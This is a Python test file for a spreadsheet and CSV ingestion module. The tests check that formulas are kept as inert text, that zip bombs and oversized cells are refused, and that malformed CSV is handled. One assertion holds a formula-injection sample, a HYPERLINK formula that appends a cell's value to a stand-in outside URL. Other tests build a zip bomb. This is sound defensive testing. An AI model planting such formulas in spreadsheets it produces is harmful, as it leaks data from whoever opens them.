"""Cells exactly as written, from XLSX and CSV; what must not be opened is refused in one sentence."""

import csv
import io
import re
import time
import zipfile
from datetime import date, datetime
from pathlib import Path
from random import Random

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.delimited import decode, records, sniff
from ingest.limits import TableError
from ingest.table import from_text, from_workbook

CASES = Path(__file__).parents[1] / "cases" / "wexbridge"
DEMO = Path(__file__).parents[2] / "api" / "demo"
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r"), max_size=12)


def _saved(book: openpyxl.Workbook) -> bytes:
    held = io.BytesIO()
    book.save(held)
    return held.getvalue()


def _repacked(data: bytes, part: str, change: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change if name == part else old.read(name))
    return held.getvalue()


def test_formulas_are_kept_as_text_and_never_evaluated() -> None:
    (sheet,) = from_workbook((CASES / "bad/tracker with formula.xlsx").read_bytes())
    assert sheet.text(1, 6) == '=HYPERLINK("http://example.invalid/x?"&A2,"click")'
    assert [sheet.text(3, n) for n in (1, 2, 3, 4)] == ["=1+1", "+44", "@SUM(A1)", "-2"]


def test_a_formula_with_a_stored_value_shows_both() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "=6*7"  # type: ignore[index]
    data = _saved(book)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    xml = re.sub(rb"<v */>|<v></v>", b"<v>42</v>", xml)
    (sheet,) = from_workbook(_repacked(data, "xl/worksheets/sheet1.xml", xml))
    assert sheet.text(0, 0) == "42 (=6*7)"


def test_dates_times_and_places_of_cells_are_those_of_the_sheet() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["C3"], sheet["D3"] = date(2025, 8, 1), datetime(2025, 8, 1, 21, 10)
    sheet["A5"], sheet["B5"] = "#N/A", 5
    (read,) = from_workbook(_saved(book))
    assert read.rows[2][2:4] == [date(2025, 8, 1), datetime(2025, 8, 1, 21, 10)]
    assert (read.text(4, 0), read.text(4, 1)) == ("#N/A", "5")


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    data = _saved(openpyxl.Workbook())
    bomb = _repacked(data, "xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * 60_000_000)
    began = time.perf_counter()
    with pytest.raises(TableError, match="unpack"):
        from_workbook(bomb)
    assert time.perf_counter() - began < 1


def test_a_cell_far_outside_the_table_costs_a_sentence_and_no_memory() -> None:
    data = _saved(openpyxl.Workbook())
    far = b'<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    with pytest.raises(TableError, match="larger than"):
        from_workbook(_repacked(data, "xl/worksheets/sheet1.xml", far))


def test_a_damaged_workbook_is_refused_in_one_sentence() -> None:
    data = (DEMO / "inbox/police/Missing tracker April 2025.xlsx").read_bytes()
    random = Random(7)
    for _ in range(60):
        hurt = bytearray(data)
        for _ in range(random.randint(1, 20)):
            hurt[random.randrange(len(hurt))] = random.randrange(256)
        try:
            from_workbook(bytes(hurt[: random.choice((len(hurt), len(hurt) // 2))]))
        except TableError as refusal:
            assert str(refusal).endswith(".")  # noqa: PT017 - any of the two outcomes is right, no third one


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_every_encoding_that_agencies_use_is_read(encoding: str) -> None:
    assert decode("Zoë – O’Brien, Théo".encode(encoding)) == "Zoë – O’Brien, Théo"


@given(st.lists(st.lists(TEXT, min_size=3, max_size=3), min_size=1, max_size=6), st.sampled_from(",;\t|"))
def test_every_properly_quoted_csv_comes_back_cell_for_cell(rows: list[list[str]], delimiter: str) -> None:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(rows)
    read = records(text.getvalue(), delimiter)
    assert [list(record.cells) for record in read] == rows
    assert not any(record.broken for record in read)


@settings(max_examples=300)
@given(st.text(alphabet='a,;"\n\r\t \x00é', max_size=80))
def test_no_text_breaks_the_csv_reader_and_no_line_is_lost(text: str) -> None:
    delimiter = sniff(text) or ","
    joined = "\n".join(record.raw for record in records(text, delimiter))
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    assert joined == lines.removesuffix("\n")


def test_a_quote_that_is_never_closed_costs_its_own_row_only() -> None:
    sheet = from_text('a;b;c\n1;"Jasmine "Jaz" Cole;2\n3;"ok; fine";4\n5;"open;6\n7;8;9\n')
    assert sheet is not None
    assert sorted(sheet.broken) == [1, 3]
    assert [sheet.rows[n] for n in (2, 4)] == [["3", "ok; fine", "4"], ["7", "8", "9"]]


def test_a_line_break_inside_quotes_is_one_row() -> None:
    sheet = from_text('a,b\n1,"two\nlines"\n2,x\n')
    assert sheet is not None
    assert sheet.rows[1:] == [["1", "two\nlines"], ["2", "x"]]


def test_a_comma_without_quotes_costs_its_row_and_shifts_no_cell() -> None:
    sheet = from_text("a,b,c\n1,2,3\n4,Weir Lane, Aldwick,5\n6,7,8\n")
    assert sheet is not None
    assert list(sheet.broken) == [2]


def test_removed_nul_characters_are_noted_and_cost_nothing() -> None:
    sheet = from_text("a,b\n1,\x00x\n")
    assert sheet is not None
    assert sheet.rows[1] == ["1", "x"]
    assert [(note.row, note.costs_content) for note in sheet.notes] == [("2", False)]


def test_many_open_quotes_take_no_time() -> None:
    began = time.perf_counter()
    records('"open,1,2\n' * 20_000, ",")
    assert time.perf_counter() - began < 5
